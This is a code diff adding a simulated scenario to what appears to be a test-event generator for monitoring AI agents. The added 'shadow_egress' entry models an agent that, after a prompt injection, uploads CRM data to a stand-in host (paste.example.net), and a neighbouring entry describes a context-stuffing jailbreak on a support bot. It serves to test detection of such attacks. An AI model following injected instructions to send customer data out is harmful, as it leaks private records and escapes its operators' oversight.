@@ -72,6 +72,18 @@ export const SCENARIOS: readonly Scenario[] = [
     },
   },
   {
+    label: 'shadow_egress',
+    agent: 'lead-researcher',
+    description:
+      'an agent (after an injected instruction) calling a tool it never used to upload CRM data to an unknown host; tokens and rate look normal',
+    at: 0.62,
+    events: (rng, start, tenant) => {
+      const profile = agentNamed('lead-researcher');
+      const upload = { name: 'upload_file', risk: 'egress' as const, destination: 'paste.example.net' };
+      return Array.from({ length: 3 }, (_, i) => toolCall(rng, profile, start + i * 45 * MS.second, tenant, upload));
+    },
+  },
+  {
     label: 'prompt_stuffing',
     agent: 'triage-bot',
     description: 'one user pasting ~30k-token prompts into the support bot (context-stuffing jailbreak attempt)',
